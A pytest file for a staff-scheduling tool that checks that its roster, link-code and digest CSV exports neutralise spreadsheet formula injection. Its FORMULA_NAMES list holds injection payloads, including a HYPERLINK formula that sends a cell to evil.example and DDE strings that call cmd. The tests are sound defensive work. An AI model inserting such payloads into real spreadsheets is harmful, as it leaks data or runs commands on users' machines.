"""Hostile spreadsheets, both ways: what the project writes must never run in a spreadsheet,
and what it reads must be bounded and refused with one short sentence.

The inputs are data in this file (names, cells, files made here), so that others can add to
them: add a name to ``FORMULA_NAMES`` and it goes through every CSV the project writes.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import select, update
from test_sheets import FERIA, SITI, ZUKIPLI, Env, make_env

from rules.calendar import WITA
from scheduler import digest, models
from scheduler.bot_records import hash_code
from scheduler.cli import cli
from scheduler.config import load_config

# Names as OCR and sheets bring them (OWASP's formula starts, and ones already marked).
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already marked once: must survive a round trip too
    "''+1",
    "-Ahmad Fauzi",  # a real-looking name that starts with a dash
    "=cmd|' /C notepad'!'A1'",
]
FORMULA_START = re.compile(r"[=+\-@\t\r]")


def cells(text: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")):
        yield from row


def assert_inert(text: str) -> None:
    """No cell of the CSV begins with what a spreadsheet runs."""
    bad = [cell for cell in cells(text) if FORMULA_START.match(cell)]
    assert not bad, bad


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Env]:
    made = make_env(tmp_path, monkeypatch, f"sqlite:///{tmp_path / 't.db'}")
    yield made
    made.db.engine.dispose()


def rename(env: Env, names: dict[str, str], **also: str) -> None:
    with env.db.write() as session:
        for key, name in names.items():
            values = {"name": name, **also} if key == FERIA else {"name": name}
            session.execute(
                update(models.Employee).where(models.Employee.key == key).values(values)
            )
        session.execute(update(models.Unit).values(name="=1+" + models.Unit.name))


@pytest.mark.parametrize("name", FORMULA_NAMES)
def test_roster_export_neutralises_and_import_restores(env: Env, name: str) -> None:
    rename(env, {FERIA: name, SITI: "@" + name}, telegram_chat_id="-1001234567890")
    before = env.dump()
    for delimiter in (",", ";"):
        done = env.run("roster", "export", "--delimiter", delimiter, "r.csv")
        assert done.exit_code == 0, done.output
        text = (env.path / "r.csv").read_bytes().decode("utf-8-sig")
        assert_inert(text.replace(";", ","))
        back = env.run("roster", "import", "r.csv")
        assert back.exit_code == 0, back.output
        if name == name.strip():  # import strips the blanks around a cell, tabs included
            assert "0 updated" in back.output and "0 created" in back.output
            assert env.dump() == before


def test_link_codes_csv_is_inert(env: Env) -> None:
    rename(env, dict(zip([FERIA, SITI, ZUKIPLI], FORMULA_NAMES, strict=False)))
    done = env.run("link", "--all", "--out", "kode.csv")
    assert done.exit_code == 0, done.output
    assert_inert((env.path / "kode.csv").read_bytes().decode("utf-8-sig"))


def test_digest_csv_and_the_mail_attachment_are_inert(env: Env) -> None:
    rename(env, dict(zip([FERIA, SITI, ZUKIPLI], FORMULA_NAMES, strict=False)))
    shown = env.run("digest", "--format", "csv", "--preview", "--as-of", "2025-03-03")
    assert shown.exit_code == 0, shown.output
    assert FORMULA_NAMES[0] in "".join(cells(shown.stdout)).replace("'=HYP", "=HYP")
    assert_inert(shown.stdout)
    config = load_config(str(env.config))
    now = datetime(2025, 3, 3, 7, 30, tzinfo=WITA)
    mails = digest.weekly(config, env.db, now)
    assert mails
    for mail in mails:
        assert_inert(mail.csv.decode("utf-8-sig"))


# --------------------------------------------------------------------------- link --out


def usable(env: Env, codes: list[str]) -> bool:
    """Every code would still link a chat, as the bot judges it (by its stored hash)."""
    now = datetime.now(WITA)
    with env.db.read() as session:
        rows = {
            row.code_hash: row
            for row in session.scalars(
                select(models.LinkCode).where(
                    models.LinkCode.code_hash.in_([hash_code(code) for code in codes])
                )
            )
        }
    return len(rows) == len(codes) and all(
        row.used_at is None and row.expires_at > now for row in rows.values()
    )


BAD_OUT = {
    "a missing folder": ("missing/kode.csv", "No such file or directory"),
    "a file as folder": ("plain.txt/kode.csv", "Not a directory"),
    "an unwritable folder": ("/proc/kode.xlsx", "cannot be written"),
    "a folder as the file": (".", "is a directory"),
    "a PDF": ("kode.pdf", "use a .csv or .xlsx file"),
}


@pytest.mark.parametrize("case", list(BAD_OUT))
def test_a_list_that_cannot_be_written_changes_no_code(env: Env, case: str) -> None:
    first = env.run("link", "--all", "--out", "kode.csv")
    assert first.exit_code == 0, first.output
    codes = [row["code"] for row in csv.DictReader(io.StringIO(
        (env.path / "kode.csv").read_bytes().decode("utf-8-sig")))]  # fmt: skip
    assert len(codes) == 4 and usable(env, codes)
    (env.path / "plain.txt").write_text("x")
    listing = sorted(p.name for p in env.path.iterdir())
    before = env.dump()
    out, words = BAD_OUT[case]
    result = CliRunner().invoke(cli, ["--config", str(env.config), "link", "--all", "--out", out])
    assert result.exit_code != 0 and isinstance(result.exception, SystemExit), result.output
    assert words in result.output and "Traceback" not in result.output
    assert usable(env, codes)
    assert env.dump() == before
    assert sorted(p.name for p in env.path.iterdir()) == listing  # nothing staged is left
